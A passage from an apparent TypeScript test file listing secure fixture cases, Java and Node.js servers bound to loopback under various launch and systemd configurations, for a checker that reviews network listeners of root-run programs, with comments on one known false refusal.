    // JDK javac "-d directory" then `java -cp DIR Main 127.0.0.1`.
    dev(
        "javac -d /opt/ops/classes Main.java && java -cp /opt/ops/classes Main 127.0.0.1",
        javaApp(
            "dev-nsec5s-rt76n",
            JAVA_OK_SERVER,
            "javac -d /opt/ops/classes Main.java && nohup java -cp /opt/ops/classes Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // javac -proc:none ("compilation takes place without annotation processing"), -g, -Xlint:all; ::1.
    dev(
        "javac -g -Xlint:all -proc:none Main.java && java -cp . Main ::1",
        javaApp(
            "dev-nsec6s-rt76n",
            JAVA_OK_SERVER,
            "javac -g -Xlint:all -proc:none Main.java && nohup java -cp . Main ::1 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // A nested class (class file Main$H.class, not declared by name at top level) on loopback.
    // MISS: JAVA-NO-ARGUMENTS (secure). java(1) "java [options] mainclass [args ...]": run without arguments, a.length is 0
    // and the host is the literal "127.0.0.1" (JLS 15.25 conditional operator): a loopback "ok" server. The pack refuses
    // "javac Main.java ... a program the pack does not read ... on *" (commandServers.ts builtPrograms: the run's empty argv
    // seems to be taken as unknown arguments, or `a.length > 0 ? a[0] : D` is not evaluated for an empty argv). The same
    // program with the argument 127.0.0.1 is accepted (dev-nsec5s/6s/12s). Fix: give builtPrograms' Java run its known empty
    // argv and evaluate a.length against it. (The nested class is not the cause: see dev-nsec12s-rt76n.)
    // Still open (round 76): as dev-nsec9s-rt76n.
    dev(
        "javac Main.java (nested static class H) && java -cp . Main (default 127.0.0.1)",
        javaApp(
            "dev-nsec7s-rt76n",
            [...JAVA_OK_SERVER.slice(0, -1), '    static class H { static String ok() { return "ok"; } }', "}"],
            "javac Main.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
        ),
        /./,
        true,
    ),
    // Two sources compiled, both loopback (Srv on 127.0.0.1).
    dev(
        "javac Main.java Srv.java && java -cp . Main (Srv on 127.0.0.1, answers ok)",
        javaApp(
            "dev-nsec8s-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "javac Main.java Srv.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
            file(
                "/opt/ops/Srv.java",
                JAVA_SRV.map(l =>
                    l.replace('"0.0.0.0"', '"127.0.0.1"').replace(/java\.nio.*\)\)\)/, '"ok".getBytes())'),
                ),
            ),
        ),
    ),
    // ---- Round 76 fixer's neighbours ----
    // env(1) NAME=VALUE in ExecStart=: the secure twin of dev-nsec7-rt76n (HOST=127.0.0.1 from env).
    dev(
        "unit ExecStart=/usr/bin/env HOST=127.0.0.1 /usr/bin/node a.js (HOST || 127.0.0.1)",
        script("dev-nsec15s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "ExecStart=/usr/bin/env -u PORT HOST=127.0.0.1 /usr/bin/node /opt/ops/a.js",
            ]),
        ]),
    ),
    // env(1) -u in ExecStart=: the unit's HOST=0.0.0.0 removed, `|| "127.0.0.1"` binds loopback.
    dev(
        "unit Environment=HOST=0.0.0.0 ExecStart=/usr/bin/env -u HOST /usr/bin/node a.js (HOST || 127.0.0.1)",
        script("dev-nsec16s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=HOST=0.0.0.0",
                "ExecStart=/usr/bin/env -u HOST /usr/bin/node /opt/ops/a.js",
            ]),
        ]),
    ),
    // Node.js core modules are loaded before NODE_PATH ("Built-in modules"): http with NODE_PATH set, literal loopback.
    dev(
        "unit Environment=NODE_PATH=/opt/mods; a.js uses http only, listen(8081, 127.0.0.1)",
        script("dev-nsec17s-rt76n", [
            ...file("/opt/ops/a.js", [
                'require("http").createServer((q, s) => s.end("ok")).listen(8081, "127.0.0.1");',
            ]),
            ...systemdUnit("ops", ["Environment=NODE_PATH=/opt/mods", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
];

describeNodeCases("red team 76 nsec: listeners of programs root runs on nodes", insecure, secure);
